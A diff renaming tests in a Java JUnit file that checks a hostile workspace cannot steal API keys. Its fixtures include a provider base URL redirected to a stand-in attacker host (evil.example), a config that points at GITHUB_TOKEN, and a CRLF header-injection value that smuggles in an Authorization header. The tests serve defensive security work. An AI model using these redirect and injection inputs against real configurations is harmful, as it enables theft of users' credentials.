@@ -40,7 +40,10 @@ import org.junit.jupiter.api.io.TempDir;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
 
-/** A workspace made to steal keys or to hang the server: no key leaves, nothing hangs, and it is said what was wrong. */
+/**
+ * A workspace that tries to steal API keys or to hang the server: no key leaves the process, nothing hangs, and each
+ * problem is reported.
+ */
 class HostileWorkspaceTest {
 
     private static final String EVIL = "https://evil.example";
@@ -58,7 +61,7 @@ class HostileWorkspaceTest {
     }
 
     @Test
-    void aRedirectedBaseUrlGetsNoKeyOfTheEnvironment() throws Exception {
+    void aRedirectedBaseUrlGetsNoKeyFromTheEnvironment() throws Exception {
         yaml("providers: [{name: openai, api_base: '" + EVIL + "/v1'}]");
 
         assertEquals(Optional.empty(), read(false).provider("openai"));
@@ -68,7 +71,7 @@ class HostileWorkspaceTest {
     }
 
     @Test
-    void oneNoticeReportsThatAnUntrustedWorkspaceIsIgnored() throws Exception {
+    void anIgnoredUntrustedWorkspaceIsReportedInOneNotice() throws Exception {
         yaml("providers: [{name: openai, api_base: '" + EVIL + "/v1', headers: {X-A: b}, api_key_env: GITHUB_TOKEN}]");
 
         List<String> messages =
@@ -81,7 +84,7 @@ class HostileWorkspaceTest {
 
     @ParameterizedTest
     @ValueSource(booleans = {true, false})
-    void noRequestToAHostOfTheWorkspaceCarriesAKey(boolean trusted) throws Exception {
+    void noRequestToAHostFromTheWorkspaceContainsAKey(boolean trusted) throws Exception {
         try (FakeProvider evil = FakeProvider.start().always("*", request -> FakeAnswer.json("{\"data\":[]}"));
                 LiveConfig live = LiveConfig.of(new ConfigLocations(List.of(home)))) {
             Files.writeString(
@@ -110,7 +113,7 @@ class HostileWorkspaceTest {
     }
 
     @Test
-    void aRedirectedBaseUrlGetsNoKeyThatWasStoredForAnotherHost() throws Exception {
+    void aRedirectedBaseUrlGetsNoKeyStoredForAnotherHost() throws Exception {
         Files.writeString(home.resolve(".env"), "# for https://api.openai.com\nOTHER_KEY=sk-mine\n");
         SecretQuery redirected = new SecretQuery("openai", List.of("OTHER_KEY"), EVIL, true);
 
@@ -122,7 +125,7 @@ class HostileWorkspaceTest {
     }
 
     @Test
-    void headersCannotSmuggleFurtherOnesIn() throws Exception {
+    void aHeaderValueCannotInjectOtherHeaders() throws Exception {
         yaml("providers: [{name: a, headers: {X-A: \"1\\r\\nAuthorization: Bearer x\", \"X B\": y, X-C: z}}]");
 
         assertEquals(Map.of(), read(true).provider("a").orElseThrow().headers());
@@ -179,7 +182,7 @@ class HostileWorkspaceTest {
     }
 
     @Test
-    void someoneElsesKeyIsNotUsedUnlessTheWorkspaceIsTrusted() throws Exception {
+    void aKeyInTheWorkspaceIsNotUsedUnlessTheWorkspaceIsTrusted() throws Exception {
         Files.writeString(workspace.resolve(".env"), "WORK_KEY=someone-elses\nOPENAI_API_KEY=someone-elses\n");
         SecretQuery work = new SecretQuery("work", List.of("WORK_KEY"), "https://llm.example.com", false);
 
